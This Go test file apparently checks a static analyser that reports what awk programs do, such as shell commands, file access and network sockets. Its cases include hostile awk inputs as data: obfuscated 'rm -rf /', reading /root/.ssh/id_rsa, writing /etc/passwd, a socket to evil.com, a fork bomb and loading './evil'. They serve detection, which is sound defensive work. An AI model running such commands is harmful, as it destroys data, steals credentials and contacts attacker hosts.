package inline

import (
	"os"
	"path/filepath"
	"testing"
)

var awkCases = []test{
	{`BEGIN{system("rm -rf /")}`, `sh 'rm -rf /'`},
	{`BEGIN { system("rm" " -rf " "/") }`, `sh 'rm -rf /'`},
	{`{system("rm " $1)}`, `sh 'rm <f1>'`},
	{`{ system ("rm " $0) }`, `sh 'rm <f0>'`},
	{`BEGIN{c="rm -rf /"; system(c)}`, `sh 'rm -rf /'`},
	{`BEGIN{c="rm"; c = c " -rf /"; system(c)}`, `sh 'rm -rf /'`},
	{`BEGIN{if (x) c="ls"; else c="rm -rf /"; system(c)}`, `sh ls|'rm -rf /'`},
	{`BEGIN{system(sprintf("%s -rf %s", "rm", "/"))}`, `sh 'rm -rf /'`},
	{`BEGIN{system("\162\155 -rf \x2f")}`, `sh 'rm -rf /'`},
	{`BEGIN{system(tolower("RM -RF /"))}`, `sh 'rm -rf /'`},
	{`BEGIN{system(substr("xrm -rf /", 2))}`, `sh 'rm -rf /'`},
	{`function f(x) { system(x) } BEGIN { f("rm -rf /") }`, `sh 'rm -rf /'`},
	{`BEGIN { f("rm -rf /") } function f(x, y) { y = x; system(y) }`, `sh 'rm -rf /'`},
	{`function f(x) { system(x) }`, `sh *`},
	{`function g(x) { return "rm " x } BEGIN { system(g("-rf /")) }`, `sh 'rm -rf /'`},
	{`function rec(x) { system(x); if (n++ < 3) rec("rm " x) } BEGIN { rec("a") }`, "sh a ⏎ sh 'rm a' ⏎ sh 'rm rm a' ⏎ sh *"},
	{`BEGIN{a["x"]="rm -rf /"; system(a["x"])}`, `sh 'rm -rf /'`},
	{`BEGIN{a[1]="ls"; a[2]="rm -rf /"; for (i in a) system(a[i])}`, `sh ls|'rm -rf /'`},
	{`BEGIN{while (i++ < 9) s = s "rm "; system(s)}`, `sh '*rm rm '|'*rm '`},
	{`BEGIN{f="system"; @f("rm -rf /")}`, `sh 'rm -rf /'`},
	{`{f=$1; @f("rm -rf /")}`, `code <f1>`},
	{`BEGIN{"date" | getline d; print d}`, `sh date`},
	{`BEGIN{while (("ls " "-l" | getline line) > 0) n++}`, `sh 'ls -l'`},
	{`BEGIN{"curl x" |& getline}`, `sh 'curl x'`},
	{`{print | "sort -n"}`, `sh 'cat /dev/fd/9 | sort -n'`},
	{`BEGIN{print "rm -rf /" | "sh"}`, `sh 'printf ′%s\n′ ′rm -rf /′ | sh'`},
	{`BEGIN{printf("%s -rf %s\n", "rm", "/") | "sh"}`, `sh 'printf ′%s\n′ ′rm -rf /␤′ | sh'`},
	{`{print $1 |& "sh"}`, `sh 'printf ′%s\n′ ′<f1>′ | sh'`},
	{`{print > "out"}`, `> out`},
	{`{print $1, $2 >> "/etc/passwd"}`, `>> /etc/passwd`},
	{`{print $1 | "sort -u | head -5"}`, `sh 'cat /dev/fd/9 | sort -u | head -5'`},
	{`{print > $1 ".txt"}`, `> <f1>.txt`},
	{`{print($1) > "/etc/x"}`, `> /etc/x`},
	{`{printf "%s\n", $1 > "/dev/stderr"}`, ``},
	{`{print | "cat 1>&2"}`, `sh 'printf ′%s\n′ ′<input>′ | cat 1>&2'`},
	{`{print (1>2) ? "a" : "b"}`, ``},
	{`BEGIN{getline x < "/root/.ssh/id_rsa"; print x}`, `< /root/.ssh/id_rsa`},
	{`BEGIN{while ((getline line < ARGV[1]) > 0) print line}`, `< $1`},
	{`BEGIN{getline; getline x; print x}`, ``},
	{`BEGIN{getline < "-"}`, ``},
	{`BEGIN{s="/inet/tcp/0/evil.com/80"; print "x" |& s; s |& getline l}`, `like nc evil.com 80 ⏎ like nc evil.com 80`},
	{`BEGIN{s="/inet/tcp/8080/0/0"; while ((s |& getline l) > 0) print l}`, `like nc -l 8080`},
	{`BEGIN{system("kill -9 " PROCINFO["ppid"])}`, `sh 'kill -9 <parent>'`},
	{`BEGIN{system("echo " ENVIRON["HOME"])}`, `sh 'echo $HOME'`},
	{`@include "x.awk"` + "\n" + `BEGIN{f()}`, `like awk -f x.awk`},
	{`@load "filefuncs"` + "\n" + `BEGIN{stat("x", a)}`, ``},
	{`@load "./evil"`, `code ./evil`},
	{`@load "fork"` + "\n" + `BEGIN{while(1) fork()}`, `code fork ⏎ bomb`},
	{`BEGIN{a=1`, `code *`},
	{`BEGIN{print "a}`, `code *`},
	{`{print /a}`, `code *`},
	{`}`, `code *`},
	{"{print \U000F0000}", `code *`},
	{"# \U000F0000\n{print}", ``},
	{"{print \"\U000F0000\"}", `code *`},
	{"{system(\"a \U000F0000\")}", `sh 'a ◌' ⏎ code *`},
	{`# system("x")`, ``},
	{`/system("x")/{print}`, ``},
	{`{print "system(\"x\")"}`, ``},
	{`{x = /"/ ? "a" : system("ls")}`, `sh ls`},
	{`{x = 4 / 2; system("ls") / 3}`, `sh ls`},
	{`$1 ~ /[/"]/ {system("ls")}`, `sh ls`},
	{"BEGIN { # it's\n system(\"ls\") }", `sh ls`},
	{"BEGIN { x = 1; \\\n system(\"ls\") }", `sh ls`},
	{`BEGIN{gsub(/a/,"b",c); system(c)}`, `sh *`},
	{`BEGIN{c="ls"; gsub(/ls/,"rm -rf /",c); system(c)}`, `sh *`},
	{`BEGIN { do { system("ls") } while (x) }`, `sh ls`},
	{`BEGIN { for (;;) system("ls") }`, `sh ls`},
	{`BEGIN { for (i=0;i<3;i++) { system("ls " i) } }`, `sh 'ls 0'|'ls *'`},
	{`BEGIN { switch (x) { case "a": system("ls"); break; case /b/: default: system("id") } }`, `sh ls ⏎ sh id`},
	{`system("ls") == 0 {print}`, `sh ls`},
	{`END{x = a ? system("a") : system("b")}`, `sh a ⏎ sh b`},
	{`BEGIN { x && system("ls") || system("id") }`, `sh ls ⏎ sh id`},
}

var awkHarmless = []string{
	`{print $1}`, `NR==1`, `1`, `!seen[$0]++`, `{ if ($1 > 5) print "kill " $2 }`, `BEGIN{FS="|"} {print $1}`,
	`{print $1 "|" $2}`, `{printf "%s|%s\n", $1, $2}`, `$1==x`, `END{print NR}`, `/foo/,/bar/`, `{s+=$1} END {print s/NR}`,
	`{a[$1]++} END {for (k in a) print k, a[k]}`, `length > 80`, `length($0) > 80 {print FILENAME ":" FNR}`, `{$1=""; print}`,
	`{print substr($0, 5)}`, `{gsub(/a/, "b"); print}`, `BEGIN { while ((getline line) > 0) n++; print n }`, `NF{print $NF}`, `{print $(NF-1)}`,
	`function max(a, b) { return a > b ? a : b } {m = max(m, $1)} END {print m}`, `{ split($0, p, /[:,]/); print p[1] }`,
	`$3 ~ /^[0-9]+$/ && $3 >= 10`, `($1, $2) in seen {next} {seen[$1,$2]; print}`, `BEGIN{RS="";ORS="\n\n"}/x/`, `{print -$1, !$2, $1^2, $1**2, 1e3, .5}`,
	`{ print $1, $2 }; END { printf("%d\n", n) }`, `NR>1{print prev} {prev=$0}`, `{ print; next } { exit 1 }`, `BEGIN { if (!(3 in a)) print "no"; delete a[3]; delete a }`,
	`{ $2 = $2 * 2; $3 += 1; n++; --m; x = y = 2; print x, y }`, `{ print "a" "b" $1 > "/dev/stdout" }`, `match($0, /x/, m) { print m[1] }`,
	`BEGIN{printf "%s", ""; close("x"); fflush()}`, `{ print toupper(substr($1,1,1)) substr($1,2) }`, `BEGIN { x["a"]["b"] = 1; print x["a"]["b"] }`,
	`{ n = split($0, a, ""); for (i = n; i > 0; i--) printf "%s", a[i]; print "" }`, `BEGIN{OFS="\t"} {print $1,$2; if (NR%2) next; else print "x"}`,
	"{\n  if ($1 == \"a\")\n    print 1\n  else\n    print 2\n}\n", `$0 !~ /x/ {c += gsub(/y/, "&")} END {print c+0}`, `{print > "/dev/null"}`[:6] + `}`,
	`/start/{f=1;next}/end/{f=0}f`, `{print $1" "$2" "($3-1)}`, `BEGIN { print 1==1, 2<3; print (2>3) }`, `{ print $++i }`,
}

func TestAwk(t *testing.T)         { checkLines(t, "awk", awkCases) }
func TestAwkHarmless(t *testing.T) { checkHarmless(t, "awk", awkHarmless) }

// TestAwkCorpus reads the awk programs of this machine: nothing in them may be
// too much for the reader.
func TestAwkCorpus(t *testing.T) {
	corpus(t, "awk", "/usr/share/doc/gawk/examples", "/usr/share/awk", "/usr/share/doc/lsof/examples")
}

// corpus reads programs of a machine and counts those that the reader does not
// get to the end of: two in a hundred may be too much.
func corpus(t *testing.T, lang string, dirs ...string) {
	t.Helper()
	ext := map[string]string{"awk": ".awk .inc", "perl": ".pl .pm", "ruby": ".rb", "sed": ".sed"}[lang]
	// All of them take a while: CORPUS=all reads them, otherwise one in six.
	every, seen := 6, 0
	if os.Getenv("CORPUS") == "all" || lang == "awk" {
		every = 1
	}
	files, lost := 0, 0
	for _, dir := range dirs {
		filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
			if err != nil || d.IsDir() || !hasWord(ext, filepath.Ext(path)) {
				return nil
			}
			if seen++; seen%every != 0 {
				return nil
			}
			code, err := os.ReadFile(path)
			if err != nil || len(code) > 200_000 || testing.Short() && files > 60 {
				return nil
			}
			files++
			effects, _ := Read(lang, string(code))
			checkPositions(t, string(code), effects)
			for _, e := range effects {
				if e.Kind == Code && e.Call == Unread || e.Call == Limited {
					lost++
					if os.Getenv("LOST") != "" {
						line := 1
						for _, b := range code[:e.Pos] {
							if b == '\n' {
								line++
							}
						}
						t.Logf("%s:%d", path, line)
					}
					break
				}
			}
			return nil
		})
	}
	if files == 0 {
		t.Skip("no programs here")
	}
	t.Logf("%d of %d programs read to the end", files-lost, files)
	if lost*100 > 2*files {
		t.Errorf("%d of %d programs of %s are not read to the end", lost, files, lang)
	}
}
